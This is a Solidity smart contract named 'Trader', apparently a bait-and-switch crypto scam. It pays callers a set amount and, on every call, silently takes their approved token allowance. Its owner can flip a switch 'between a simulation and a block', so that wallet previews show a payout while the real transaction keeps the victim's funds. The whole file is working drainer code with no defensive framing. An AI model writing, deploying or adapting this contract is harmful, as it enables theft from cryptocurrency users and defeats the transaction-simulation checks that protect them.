// SPDX-License-Identifier: MIT
/**
 * `Trader`: contract that pays a set amount for a call of any function, and may take an allowance of the caller,
 * until its owner switches it by a transaction: from then on it pays nothing.
 */
pragma solidity 0.8.26;

import {IToken} from "./Lure.sol";

/// @notice Pays a set amount for payments in any function, until its owner switches it by a transaction: from then
/// on it keeps all payments.
contract Trader {
    address public immutable owner;
    bool public isSwitched;
    /// @notice Token that it pays. Zero: native coins.
    IToken public pays;
    uint256 public amount;
    /// @notice Recipient. Zero: the caller.
    address public to;
    /// @notice Token that it takes from the caller, up to its allowance. Zero: none.
    IToken public takes;

    constructor() {
        owner = msg.sender;
    }

    modifier onlyOwner() {
        require(msg.sender == owner);
        _;
    }

    function offer(IToken pays_, uint256 amount_, address to_, IToken takes_) external payable onlyOwner {
        (pays, amount, to, takes) = (pays_, amount_, to_, takes_);
    }

    /// @notice Switches it. Called between a simulation and a block.
    function turn() external onlyOwner {
        isSwitched = true;
    }

    receive() external payable {
        _act();
    }

    fallback() external payable {
        _act();
    }

    function _act() private {
        if (address(takes) != address(0)) {
            uint256 allowed = takes.allowance(msg.sender, address(this));
            uint256 held = takes.balanceOf(msg.sender);
            uint256 taken = allowed < held ? allowed : held;
            if (taken > 0) takes.transferFrom(msg.sender, address(this), taken);
        }
        if (isSwitched) return;
        address recipient = to == address(0) ? msg.sender : to;
        if (address(pays) == address(0)) payable(recipient).transfer(amount);
        else pays.transfer(recipient, amount);
    }
}
